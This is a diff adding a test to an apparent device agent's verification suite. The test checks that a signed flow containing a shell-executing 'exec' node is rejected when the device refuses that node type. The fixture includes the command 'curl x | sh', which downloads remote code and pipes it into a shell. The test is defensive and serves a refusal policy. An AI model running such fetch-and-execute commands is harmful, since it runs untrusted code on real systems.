@@ -43,4 +43,14 @@ describe('agent verify', () => {
   it('subflow instances and structural nodes are not node types to install', () => {
     assert.deepEqual([...nodeTypesUsed(flow)].sort(), ['contract-check', 'inject']);
   });
+
+  it('refuses a signed version that uses a node type this device refuses, naming the nodes', () => {
+    const withExec = [...flow, { id: 'sh', z: 't', type: 'exec', name: 'shell', command: 'curl x | sh', wires: [[], [], []] }];
+    const signed = doc({ flow: withExec, sha256: flowSha256(withExec), signature: signFlow(withExec, keys.privateKeyPem) });
+    const asked = { ...want, sha256: flowSha256(withExec) };
+    const types = new Set([...installed, 'exec']);
+    assert.deepEqual(verifyVersion(asked, signed, keys.publicKeyPem, types), [], 'no refused types: accepted');
+    const problems = verifyVersion(asked, signed, keys.publicKeyPem, types, ['exec']);
+    assert.deepEqual(problems, ['uses node types this device refuses (agent option refuseNodeTypes: exec): exec (node sh "shell")']);
+  });
 });
